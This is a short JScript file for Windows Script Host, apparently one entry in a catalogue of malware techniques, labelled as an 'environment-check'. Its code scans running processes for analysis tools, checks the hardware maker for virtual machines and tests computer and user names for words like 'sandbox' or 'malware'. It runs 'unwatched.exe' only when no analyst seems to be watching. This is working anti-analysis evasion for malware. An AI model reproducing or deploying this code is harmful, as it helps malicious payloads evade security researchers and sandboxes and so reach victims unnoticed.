// persona: wsh
// reaches: process unwatched.exe
// names: environment-check
// trick: looks through processes, names and hardware for those of an analyst
var network = new ActiveXObject("WScript.Network"), watched = /sandbox|malware|virus|test|analy/i;
var service = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2"), count = 0;
for (var all = new Enumerator(service.ExecQuery("SELECT * FROM Win32_Process")); !all.atEnd(); all.moveNext()) {
  count++;
  if (/wireshark|procmon|vbox|vmtools|fiddler/i.test(all.item().Name)) watched = /./;
}
var machine = new Enumerator(service.ExecQuery("SELECT * FROM Win32_ComputerSystem")).item();
if (/vmware|virtualbox|qemu|xen/i.test(machine.Manufacturer + machine.Model)) watched = /./;
if (count > 15 && !watched.test(network.ComputerName) && !watched.test(network.UserName))
  new ActiveXObject("WScript.Shell").Run("unwatched.exe");
